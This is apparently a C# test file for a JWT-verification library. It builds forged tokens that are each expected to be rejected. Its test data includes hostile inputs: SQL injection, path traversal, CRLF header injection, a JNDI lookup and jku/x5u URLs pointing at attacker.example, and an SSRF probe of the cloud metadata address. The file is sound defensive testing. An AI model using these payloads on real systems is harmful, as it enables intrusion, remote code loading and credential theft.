using System.Text.Json.Nodes;
using Weir.Core.Tokens;
using Weir.Proofs.Tokens;

namespace Weir.Core.Tests.Tokens.Forgeries;

internal static class KeyForgeries
{
    private static readonly string[] s_hostileIds =
    [
        " ", "es-current ", " es-current", "es current", "es-current\n", "es-current\u0000", "\u0000",
        "es-current\u200b", "ës-current",
        "' or 1=1 -- ", "../../../../dev/null\n", "\r\nSet-Cookie: a=b", "\U0001F511",
    ];

    private static readonly string[] s_unknownIds =
    [
        "es-unknown", "ES-CURRENT", "es-curren", "es-current2", "../../../dev/null", "/dev/null", "file:///dev/null",
        "https://attacker.example/jwks.json",
        "'or'1'='1", "1;drop/**/table/**/weir.customers", "${jndi:ldap://attacker.example/a}", "%00", "es-current%00",
        "__proto__", "0", "null", "*",
    ];

    public static IEnumerable<Forgery> Of(ForgeWorld world)
    {
        foreach (var id in s_unknownIds) yield return new Forgery($"kid '{id}'", Sign(id), TokenFailure.UnknownKey);
        foreach (var id in s_hostileIds)
            yield return new Forgery($"kid {JsonValue.Create(id)!.ToJsonString()}", Sign(id),
            TokenFailure.KeyIdNotValid);
        (string Name, JsonNode? Value)[] kinds =
        [
            ("null", null), ("a number", 1), ("true", true), ("an array", new JsonArray("es-current")),
            ("an object", new JsonObject { ["kid"] = "es-current" }),
            ("empty", ""), ("of 257 characters", new string('k', 257)), ("of 5 KB", new string('k', 5000)),
        ];
        foreach (var (name, value) in kinds)
            yield return new Forgery($"kid is {name}", Sign(value), TokenFailure.KeyIdNotValid);
        yield return new Forgery("kid of 1 MB", Sign(new string('k', 1_000_000)), TokenFailure.TooLarge);
        var without = ForgeWorld.Header(world.Current);
        without.Remove("kid");
        yield return new Forgery("kid absent among several keys", world.Sign(world.Current, header: without),
            TokenFailure.KeyIdMissing);

        foreach (var key in world.Unusable.All.Where(k =>
            k.Algorithm is "ES256" or "RS256" && k != world.Unusable.OtherCurve && k != world.Unusable.RsaForPss))
            yield return new Forgery($"published key that must not be used: {key.KeyId} ({Array.IndexOf([.. world.Unusable.All], key)})", world.Sign(key), TokenFailure.UnknownKey);
        yield return new Forgery("published P-384 key under ES256", world.Sign(world.Unusable.OtherCurve),
            TokenFailure.UnknownKey);
        yield return new Forgery("PSS-only RSA key under RS256", world.Sign(world.Unusable.RsaForPss),
            TokenFailure.UnknownKey);
        yield return new Forgery("off-curve key", world.Sign(ForgeKey.Ecdsa("es-off-curve")), TokenFailure.UnknownKey);

        yield return new Forgery("attacker's EC key under our kid", world.Sign(world.Attacker),
            TokenFailure.SignatureWrong);
        yield return new Forgery("attacker's RSA key under our kid", world.Sign(world.RsaAttacker),
            TokenFailure.SignatureWrong);
        yield return new Forgery("our other EC key under this kid",
            world.Sign(world.Standby, header: ForgeWorld.Header(world.Current)), TokenFailure.SignatureWrong);
        yield return new Forgery("our longer RSA key under this kid",
            world.Sign(world.LongRsa, header: ForgeWorld.Header(world.Rsa)), TokenFailure.SignatureLength);
        foreach (var forgery in Embedded(world).Concat(Critical(world))) yield return forgery;

        string Sign(JsonNode? id) =>
            world.Sign(world.Current, header: new JsonObject { ["alg"] = "ES256", ["kid"] = id, ["typ"] = "JWT" });
    }

    /// <summary>The forger brings the key along, or says where to fetch it.</summary>
    private static IEnumerable<Forgery> Embedded(ForgeWorld world)
    {
        (string Name, JsonNode Value)[] members =
        [
            ("jwk", world.Attacker.Jwk.DeepClone()), ("jku", "https://attacker.example/jwks.json"),
            ("jku", "http://169.254.169.254/latest/meta-data"),
            ("x5u", "https://attacker.example/cert.pem"), ("x5c", new JsonArray("MIIBIjANBgkq")), ("x5t", "AAAA"),
            ("jwks", new JsonArray(world.Attacker.Jwk.DeepClone())),
        ];
        foreach (var (name, value) in members)
        {
            var header = ForgeWorld.Header(world.Attacker);
            header[name] = value.DeepClone();
            yield return new Forgery($"attacker's key with {name} = {value.ToJsonString()[..Math.Min(40, value.ToJsonString().Length)]}",
                world.Sign(world.Attacker, header: header), TokenFailure.SignatureWrong);
            header = (JsonObject)header.DeepClone();
            header["kid"] = "attacker-1";
            yield return new Forgery($"attacker's key and kid with {name} = {value.ToJsonString()[..Math.Min(40, value.ToJsonString().Length)]}",
                world.Sign(world.Attacker, header: header), TokenFailure.UnknownKey);
        }
    }

    private static IEnumerable<Forgery> Critical(ForgeWorld world)
    {
        (string Name, JsonNode? Value)[] values =
        [
            ("empty", new JsonArray()), ("b64", new JsonArray("b64")), ("exp", new JsonArray("exp")), ("null", null),
            ("a text", "exp"), ("http://example.com/x", new JsonArray("http://example.com/x")),
        ];
        foreach (var (name, value) in values)
        {
            var header = ForgeWorld.Header(world.Current);
            header["crit"] = value;
            header["b64"] = true;
            yield return new Forgery($"crit {name}, rightly signed", world.Sign(world.Current, header: header),
                TokenFailure.CriticalExtension);
        }
        foreach (var type in new JsonNode?[] { "at+jwt", "JOSE", "application/jwt", "dpop+jwt", "", 1, null,
            new JsonArray("JWT") })
        {
            var header = ForgeWorld.Header(world.Current);
            header["typ"] = type;
            yield return new Forgery($"typ {type?.ToJsonString() ?? "null"}, rightly signed",
                world.Sign(world.Current, header: header), TokenFailure.WrongType);
        }
    }
}
